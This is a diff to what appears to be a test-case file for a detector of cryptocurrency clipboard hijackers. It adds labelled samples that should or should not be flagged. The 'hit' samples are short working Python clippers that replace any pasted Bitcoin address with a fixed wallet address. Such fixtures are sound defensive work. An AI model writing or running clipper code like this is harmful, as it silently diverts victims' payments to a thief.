@@ -30,8 +30,16 @@ export const THEFTS: TextCases = {
         'python',
         'import re, pyperclip\nwhile True:\n  t = pyperclip.paste()\n  if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t): clipboard = pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
       ],
+      'from a table of addresses and patterns': [
+        'python',
+        'import re, pyperclip\nOWN = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"}\nKIND = {"btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")}\nwhile 1:\n  c = pyperclip.paste()\n  for k, p in KIND.items():\n    if p.match(c): pyperclip.copy(OWN[k])',
+      ],
     },
     misses: {
+      'a clipboard manager whose author takes donations': [
+        'python',
+        'import pyperclip, re\nDONATE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"\ndef upper():\n  pyperclip.copy(pyperclip.paste().upper())',
+      ],
       'a wallet checks what is pasted': [
         'javascript',
         'const t = await navigator.clipboard.readText(); if (!/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) warn(t)',
